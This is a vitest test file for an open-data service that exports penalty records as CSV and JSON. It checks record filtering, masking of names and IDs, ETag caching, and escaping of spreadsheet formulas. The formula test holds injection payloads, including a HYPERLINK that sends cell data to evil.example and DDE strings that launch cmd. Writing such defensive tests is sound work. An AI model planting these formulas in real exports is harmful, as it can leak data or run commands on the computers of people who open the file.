import { expect, it } from 'vitest';
import { sql } from 'kysely';
import { openDataResponse } from '@/server/open-data/service';
import { deriveIdentityKeys, protectIdNumber } from '@/server/identities/protect';
import { saveIdentityNumber } from '@/server/identities/repository';
import { makeResidentId } from '@/server/rules/idcard';
import { createCompany, createDepartment, createPenalty } from '../helpers/fixtures';
import { describeEachDatabase } from '../helpers/databases';

const today = '2026-03-01';

describeEachDatabase('open-data files', (current) => {
  it('hold only public records, masked, and answer 304 until the data or the day changes', async () => {
    const { db } = current();
    const dept = await createDepartment(db);
    const company = await createCompany(db, '乐山市开放数据测试有限公司');
    const visible = await createPenalty(db, company, dept, {});
    const hidden = [
      await createPenalty(db, company, dept, { publicUntil: today }),
      await createPenalty(db, company, dept, { status: 'withdrawn', withdrawnOn: '2025-10-01' }),
      await createPenalty(db, company, dept, { status: 'repaired', repairedOn: '2026-01-10' }),
      await createPenalty(db, company, dept, { status: 'unpublished', severity: 'minor' }),
    ];
    const fullId = makeResidentId({ division: '511102', birthDate: '1979-01-02', sequence: 55 });
    const p = protectIdNumber(deriveIdentityKeys(Buffer.alloc(32, 3)), fullId);
    const ref = await saveIdentityNumber(db, p);
    const person = await db
      .insertInto('subjects')
      .values({
        kind: 'natural_person',
        name: '赵大勇',
        nameNorm: '赵大勇',
        personIdRef: ref,
        personIdMasked: p.masked,
      })
      .returning(['id', 'name'])
      .executeTakeFirstOrThrow();
    await createPenalty(db, person, dept, {
      subjectCategory: '自然人',
      partyIdMasked: p.masked,
      partyIdRef: ref,
      partyIdType: '身份证',
    });

    const csvResponse = (await openDataResponse(db, today, 'penalties.csv', null))!;
    const csv = await csvResponse.text();
    // The body starts with a BOM so that Excel reads UTF-8 (Response.text() drops it).
    expect(csv.split('\r\n')[0]).toMatch(/^id,CF_XDR_MC,CF_XDR_LB,CF_XDR_SHXYM,.*CF_WSH,/);
    const bytes = new Uint8Array(await (await openDataResponse(db, today, 'penalties.csv', null))!.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toContain(visible.documentNumber);
    for (const h of hidden) expect(csv).not.toContain(h.documentNumber);
    expect(csv).toContain('赵**');
    expect(csv).not.toContain('赵大勇');
    expect(csv).not.toContain(fullId);

    const json = (await (await openDataResponse(db, today, 'penalties.json', null))!.json()) as {
      records: { CF_WSH: string; CF_NR_FK: string }[];
    };
    expect(json.records.map((r) => r.CF_WSH)).toContain(visible.documentNumber);
    expect(json.records.find((r) => r.CF_WSH === visible.documentNumber)!.CF_NR_FK).toBe('0.5');
    for (const h of hidden) expect(json.records.map((r) => r.CF_WSH)).not.toContain(h.documentNumber);

    const etag = csvResponse.headers.get('etag');
    expect((await openDataResponse(db, today, 'penalties.csv', etag))!.status).toBe(304);
    expect((await openDataResponse(db, '2026-03-02', 'penalties.csv', etag))!.status).toBe(200);
    await sql`update penalty_records set content = '罚款人民币六千元', updated_at = now() + interval '1 minute' where id = ${visible.id}`.execute(
      db,
    );
    const changed = (await openDataResponse(db, today, 'penalties.csv', etag))!;
    expect(changed.status).toBe(200);
    expect(await changed.text()).toContain('罚款人民币六千元');
    expect(await openDataResponse(db, today, 'secrets.csv', null)).toBeNull();
  });

  it('never write a text cell that a spreadsheet would run as a formula', async () => {
    const { db } = current();
    const dept = await createDepartment(db);
    const company = await createCompany(db, '乐山市公式注入测试有限公司');
    const attacks = {
      violationType: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
      violationFacts: "+cmd|' /C calc'!A0",
      legalBasis: '-2+3',
      content: '@SUM(1+1)*cmd|" /C calc"!A0',
    };
    await createPenalty(db, company, dept, attacks);
    const csv = await (await openDataResponse(db, today, 'penalties.csv', null))!.text();
    const cells = parseCsvLine(csv.split('\r\n').find((l) => l.includes('乐山市公式注入测试有限公司'))!);
    for (const attack of Object.values(attacks)) {
      expect(cells).toContain(`'${attack}`);
      expect(cells).not.toContain(attack);
    }
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** The cells of one RFC 4180 line (no line breaks inside cells in these fixtures). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g;
  for (const m of line.matchAll(re)) cells.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : (m[2] ?? ''));
  return cells;
}
